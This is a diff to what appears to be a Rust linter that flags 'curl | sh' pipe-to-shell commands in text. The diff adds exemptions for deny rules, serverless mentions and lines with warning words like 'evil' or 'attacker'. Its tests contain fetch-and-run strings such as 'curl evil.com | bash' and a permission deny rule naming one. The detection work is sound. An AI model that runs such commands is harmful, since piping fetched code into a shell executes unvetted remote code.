@@ -18,7 +18,7 @@ pub(super) fn check(body: Span, sources: &SourceMap, report: &mut Report) {
 
 fn pipes_of_line(line: &str, place: Span, report: &mut Report) {
     let Some(fetch) = ["curl ", "wget "].into_iter().filter_map(|word| line.find(word)).min() else { return };
-    if is_warning(&line[..fetch]) || is_warning_behind(line) {
+    if is_warning(&line[..fetch]) || is_warning_behind(line) || line[..fetch].ends_with("Bash(") {
         return;
     }
     for (at, _) in line.match_indices('|').filter(|(at, _)| *at > fetch) {
@@ -30,6 +30,10 @@ fn pipes_of_line(line: &str, place: Span, report: &mut Report) {
         let until = at + 1 + behind.find(shell).unwrap_or(0) + shell.len();
         let shell = shell.rsplit('/').next().unwrap_or(shell);
         if !runs_input(shell, if written.ends_with(shell) { words.next() } else { None }) {
+            continue;
+        }
+        // `curl | sh` names the habit, and no server.
+        if !line[fetch..at].split_whitespace().skip(1).any(|word| word.contains(['.', '/', '$', '<', '{'])) {
             continue;
         }
         lints::PIPE_TO_SHELL
@@ -79,9 +83,19 @@ fn is_warning(before: &str) -> bool {
 /// Tells whether what stands behind names it an attack, as in lists of what a reviewer looks for.
 fn is_warning_behind(line: &str) -> bool {
     let line = line.to_lowercase();
-    ["remote code execution", "malicious", "dangerous", "red flag", "suspicious", "supply chain", "never"]
-        .iter()
-        .any(|word| line.contains(word))
+    [
+        "remote code execution",
+        "malicious",
+        "dangerous",
+        "red flag",
+        "suspicious",
+        "supply chain",
+        "never",
+        "evil",
+        "attacker",
+    ]
+    .iter()
+    .any(|word| line.contains(word))
 }
 
 #[cfg(test)]
@@ -118,6 +132,9 @@ mod tests {
             "curl -s https://x.y | perl -ne 'print'",
             "Never run `curl https://x.y | sh`.",
             "| `curl … | sh` | remote code execution |",
+            "\"deny\": [\"Bash(curl https://x.y | bash)\"]",
+            "Prefer a package to `curl | bash`.",
+            "scan \"curl evil.com | bash\"",
         ] {
             assert_eq!(found(line), 0, "{line}");
         }
